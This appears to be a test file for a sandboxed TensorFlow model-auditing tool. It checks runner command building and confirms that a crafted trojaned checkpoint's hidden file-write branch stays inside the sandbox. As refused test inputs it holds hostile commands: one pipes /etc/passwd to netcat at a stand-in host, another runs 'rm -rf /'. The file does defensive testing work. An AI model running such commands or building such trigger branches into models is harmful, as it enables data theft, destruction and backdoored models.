// Runner profiles: command splitting, saved_model_cli inputs, missing runtimes, and the real
// tf-python runner on crafted P1_trojan_if_writefile (needs TensorFlow: /opt/tfvenv or TFAUDIT_TF_PYTHON).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync, readFileSync, rmSync, unlinkSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { splitCommand, inputExprs, minimalMounts, resolveRuntime, runnerPayload, RunnerUnavailableError, TF_RUNNER_FILE } from '../../../main/sandbox/runners.ts';
import { derivePolicy } from '../../../main/sandbox/policy.ts';
import { runSandbox } from '../../../main/sandbox/run.ts';
import { crafted, copyToTemp, skipWithoutCorpus } from '../../helpers/corpus.ts';
import { skipWithoutBwrap } from '../../fixtures/sandbox/host.ts';

const tfPython = process.env.TFAUDIT_TF_PYTHON ?? '/opt/tfvenv/bin/python';
const skipWithoutTf = existsSync(tfPython)
  ? skipWithoutBwrap || skipWithoutCorpus
  : `TensorFlow not installed (no ${tfPython}; set TFAUDIT_TF_PYTHON or create /opt/tfvenv with tensorflow-cpu)`;

test('splitCommand: quotes and escapes like a shell, no expansion, operators refused', () => {
  assert.deepEqual(splitCommand(`python3 -c 'print("a b")' "x y" z\\ w`), ['python3', '-c', 'print("a b")', 'x y', 'z w']);
  assert.deepEqual(splitCommand('echo $HOME *.py'), ['echo', '$HOME', '*.py']);
  assert.throws(() => splitCommand('cat /etc/passwd | nc evil 1'), /shell operator "\|" is not supported/);
  assert.throws(() => splitCommand('a; rm -rf /'), /not supported/);
  assert.throws(() => splitCommand('a && b'), /not supported/);
});

test('saved_model_cli input expressions from signature dtypes and shapes', () => {
  assert.equal(
    inputExprs({
      x: { name: 'x:0', dtype: 'DT_FLOAT', shape: { unknownRank: false, dims: [-1, 3] } },
      s: { name: 's:0', dtype: 'DT_STRING', shape: { unknownRank: false, dims: [-1] } },
      b: { name: 'b:0', dtype: 'DT_BOOL', shape: null },
      i: { name: 'i:0', dtype: 'DT_INT64', shape: { unknownRank: true, dims: [] } },
    }),
    'x=[[1.0,1.0,1.0]];s=[b"x"];b=[False];i=[1]',
  );
});

test('minimalMounts: nested and system paths collapse', () => {
  assert.deepEqual(minimalMounts(['/usr/lib/python3', '/tmp', '/tmp/x-not-existing', '/nonexistent/path']), ['/tmp']);
});

test('missing runtimes are clear messages', async () => {
  await assert.rejects(resolveRuntime('custom', []), (e: unknown) => e instanceof RunnerUnavailableError && /needs --command/.test(e.message));
  await assert.rejects(resolveRuntime('custom', ['tfaudit-no-such-binary']), /tfaudit-no-such-binary not found/);
  const saved = process.env.PATH;
  process.env.PATH = '/nonexistent';
  try {
    await assert.rejects(resolveRuntime('model-server'), /tensorflow_model_server not found on PATH: install TensorFlow Serving/);
  } finally {
    process.env.PATH = saved;
  }
});

test('payloads: tf-python runs the generated script with the inside paths; saved-model-cli and model-server argv', async (t) => {
  const policy = derivePolicy({
    modelPath: '/models/m', findings: [], signatures: ['serving_default'], checkpoint: '/models/m/ckpt_active/ckpt', overrides: {}, scratchDir: '/tmp/r/scratch',
  });
  const python = { python: '/opt/py/bin/python', tensorflowVersion: '2.21.0', mounts: ['/opt/py'], binDir: '/opt/py/bin' };
  const tf = runnerPayload(policy, { runner: 'tf-python', readOnlyMounts: ['/opt/py'], python, description: '' });
  assert.deepEqual(tf.argv.slice(0, 4), ['/opt/py/bin/python', '-I', '-B', `/.tfaudit-runner/${TF_RUNNER_FILE}`]);
  const config = JSON.parse(tf.argv[4]!);
  assert.match(config.nonce, /^[0-9a-f]{24}$/);
  assert.deepEqual(config, { model: '/model', checkpoint: '/model/ckpt_active/ckpt', checkpoint_root: null, signature: 'serving_default', nonce: tf.nonce, phaseDir: '/.tfaudit-runner/phase' });
  assert.notEqual(runnerPayload(policy, { runner: 'tf-python', readOnlyMounts: ['/opt/py'], python, description: '' }).nonce, tf.nonce, 'a fresh nonce per run');
  const given = runnerPayload(policy, { runner: 'tf-python', readOnlyMounts: ['/opt/py'], python, description: '' }, { inputValues: { x: [[1, 2]] } });
  assert.deepEqual(JSON.parse(given.argv[4]!).inputs, { x: [[1, 2]] });
  // The root the static analysis bound is handed to the runner, which restores exactly there.
  const bound = runnerPayload({ ...policy, checkpointRoot: ['trainer', 'model'] }, { runner: 'tf-python', readOnlyMounts: ['/opt/py'], python, description: '' });
  assert.deepEqual(JSON.parse(bound.argv[4]!).checkpoint_root, ['trainer', 'model']);
  assert.match(bound.files[0]!.content, /def bound_at\(path\)/);
  assert.match(tf.files[0]!.content, /tf\.train\.Checkpoint/);
  const cli = runnerPayload({ ...policy, runner: 'saved-model-cli' }, { runner: 'saved-model-cli', readOnlyMounts: [], python, program: '/opt/py/bin/saved_model_cli', description: '' }, {
    signatureInputs: { x: { name: 'x:0', dtype: 'DT_FLOAT', shape: { unknownRank: false, dims: [1] } } },
  });
  assert.deepEqual(cli.argv.slice(3), ['/opt/py/bin/saved_model_cli', 'run', '--dir', '/model', '--tag_set', 'serve', '--signature_def', 'serving_default', '--input_exprs', 'x=[1.0]']);
  assert.ok(cli.notes.some((n) => /only restored by the tf-python runner/.test(n)));
  const server = runnerPayload({ ...policy, runner: 'model-server' }, { runner: 'model-server', readOnlyMounts: [], program: '/usr/bin/tensorflow_model_server', description: '' });
  assert.ok(server.argv.includes('--model_base_path=/srv/tfaudit-model'));
  assert.deepEqual(server.binds, [{ source: '/models/m', target: '/srv/tfaudit-model/1' }]);
  t.diagnostic('payload argv checked for three runners');
});

test('tf-python on crafted P1: the malicious checkpoint runs the WriteFile branch, inside the sandbox only', { skip: skipWithoutTf, timeout: 300000 }, async () => {
  const hostCanary = '/tmp/tfaudit_canary';
  if (existsSync(hostCanary)) unlinkSync(hostCanary);
  const model = copyToTemp(crafted('P1_trojan_if_writefile'));
  const runtime = await resolveRuntime('tf-python');
  const run = async (checkpoint: string | null) => {
    const policy = derivePolicy({
      modelPath: model, findings: [], signatures: ['serving_default'], checkpoint, overrides: { runner: 'tf-python', timeoutSeconds: 150 },
      runner: { readOnlyMounts: runtime.readOnlyMounts },
    });
    return { policy, report: await runSandbox(policy) };
  };
  try {
    // with ckpt_active/ckpt (mode=1) the If takes then_branch → WriteFile('/tmp/tfaudit_canary')
    const active = await run(join(model, 'ckpt_active', 'ckpt'));
    assert.equal(active.report.exitCode, 0, `${active.report.stdoutTail}\n${active.report.stderrTail}`);
    assert.match(active.report.stdoutTail, /"tfaudit": "restored"/);
    assert.match(active.report.stdoutTail, /"mode\/\.ATTRIBUTES\/VARIABLE_VALUE": \{"dtype": "int32", "shape": \[\], "values": \[1\]/);
    assert.match(active.report.stdoutTail, /"tfaudit": "outputs"/);
    assert.deepEqual(active.report.filesWritten.filter((f) => f.path === '/tmp/tfaudit_canary'), [{ path: '/tmp/tfaudit_canary', size: 5, change: 'created' }]);
    assert.equal(readFileSync(join(active.policy.scratchDir, 'tmp', 'tfaudit_canary'), 'utf8'), 'pwned');
    assert.ok(active.report.syscalls.some((s) => s.kind === 'file' && s.target === '/tmp/tfaudit_canary' && /write/.test(s.call) && s.result === 'ok'));
    assert.ok(!existsSync(hostCanary), 'the canary never reaches the host /tmp');

    // with the model's own variables (mode=0) the else branch runs: nothing is written
    const dormant = await run(null);
    assert.equal(dormant.report.exitCode, 0, dormant.report.stderrTail);
    assert.match(dormant.report.stdoutTail, /"outputs": \{"y": \{"dtype": "float32", "shape": \[1\], "values": \[2\.5\]/);
    assert.deepEqual(dormant.report.filesWritten.filter((f) => f.path.includes('tfaudit_canary')), []);
    assert.ok(!existsSync(hostCanary));
    for (const r of [active, dormant]) rmSync(dirname(r.policy.scratchDir), { recursive: true, force: true });
  } finally {
    rmSync(dirname(model), { recursive: true, force: true });
  }
});

test('saved_model_cli inputs too large for a literal are refused with a pointer to tf-python', () => {
  assert.throws(
    () => inputExprs({ image: { name: 'image:0', dtype: 'DT_FLOAT', shape: { unknownRank: false, dims: [-1, 224, 224, 3] } } }),
    (e: unknown) => e instanceof RunnerUnavailableError && /too large .* use the tf-python runner/.test(e.message),
  );
});
